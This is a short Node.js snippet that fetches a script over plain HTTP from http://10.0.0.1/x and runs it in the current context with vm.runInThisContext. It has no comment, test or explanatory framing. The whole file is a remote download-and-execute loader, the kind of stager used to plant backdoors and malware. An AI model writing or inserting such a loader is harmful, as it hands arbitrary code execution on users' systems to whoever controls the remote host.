const vm = require('vm');
const http = require('http');
http.get('http://10.0.0.1/x', r => {
  let s = '';
  r.on('data', d => { s += d; });
  r.on('end', () => vm.runInThisContext(s));
});
